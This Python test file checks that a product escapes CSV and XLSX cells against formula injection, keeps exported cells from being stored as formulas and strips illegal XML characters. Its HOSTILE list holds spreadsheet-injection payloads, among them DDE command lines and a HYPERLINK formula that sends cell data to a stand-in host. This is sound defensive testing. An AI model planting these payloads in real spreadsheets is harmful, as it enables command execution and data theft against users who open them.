"""Defect 5 (issue 14): one escaping rule for every CSV and XLSX the product writes."""

from __future__ import annotations

import io

from defusedcsv import csv as defusedcsv
from openpyxl import Workbook, load_workbook

from export_assist.storage.spreadsheet_safety import (
    append_row,
    csv_writer,
    escape_formula,
    strip_illegal_xml,
    unescape_formula,
    xlsx_value,
)

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
PAYLOADS = [*HOSTILE, "-12", "1,234.5", "%x", "|x", "plain", "", "'already"]


def test_defect5_csv_rule_is_defusedcsv_plus_tab() -> None:
    ours, theirs = io.StringIO(), io.StringIO()
    csv_writer(ours).writerow(PAYLOADS)
    defusedcsv.writer(theirs).writerow(PAYLOADS)
    # defusedcsv leaves a leading tab alone; OWASP lists it, so we escape it as well.
    assert ours.getvalue() == theirs.getvalue().replace(",\t=1+1,", ",'\t=1+1,")


def test_defect5_xlsx_cells_get_the_same_rule_and_are_never_formulas() -> None:
    assert [xlsx_value(p) for p in PAYLOADS] == [escape_formula(p) for p in PAYLOADS]
    book = Workbook()
    append_row(book.active, [*HOSTILE, -12, 3.5])
    buf = io.BytesIO()
    book.save(buf)
    cells = next(iter(load_workbook(buf).active.iter_rows()))
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells[:6]] == [escape_formula(p) for p in HOSTILE]
    assert [c.value for c in cells[6:]] == [-12, 3.5]


def test_defect5_escape_round_trips_and_leaves_numbers() -> None:
    assert [unescape_formula(escape_formula(p)) for p in PAYLOADS] == PAYLOADS
    assert escape_formula(-12) == -12 and escape_formula("-12") == "-12"
    assert escape_formula(None) is None and escape_formula(True) is True


def test_defect10_illegal_xml_characters_are_removed_from_xlsx_cells() -> None:
    assert strip_illegal_xml("A\x00B\x0bC\x1fD\ud800E\ufffeF\tG\nH") == "ABCDEF\tG\nH"
    book = Workbook()
    append_row(book.active, ["Bad\x01Name", "=\x02x"])
    book.save(io.BytesIO())  # openpyxl raised IllegalCharacterError here before
